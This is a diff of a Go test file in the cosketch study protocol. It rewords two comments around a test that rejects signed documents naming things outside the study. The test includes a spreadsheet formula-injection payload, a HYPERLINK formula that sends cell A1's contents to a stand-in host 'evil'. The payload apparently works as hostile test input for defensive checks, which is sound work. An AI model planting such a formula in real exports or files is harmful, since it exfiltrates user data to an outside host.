@@ -13,8 +13,7 @@ import (
 	"github.com/cosketch/cosketch/protocol/study"
 )
 
-// What an aggregator signs is no document of the study if it names what the study does not,
-// and a party keeps none of it.
+// A signed document that names what the study does not is rejected, and a party keeps none of it.
 func TestADocumentThatNamesWhatTheStudyDoesNot(t *testing.T) {
 	const formula = `=HYPERLINK(\"http://evil/?\"&A1)`
 	w, data := wide(3, "[{kind: distance}]")
@@ -68,7 +67,7 @@ func TestADocumentThatNamesWhatTheStudyDoesNot(t *testing.T) {
 	}
 }
 
-// dropFurther takes the aggregator's further results away.
+// dropFurther removes the aggregator's further results.
 func (b *bench) dropFurther() error {
 	st := b.open("agg")
 	defer st.Close()
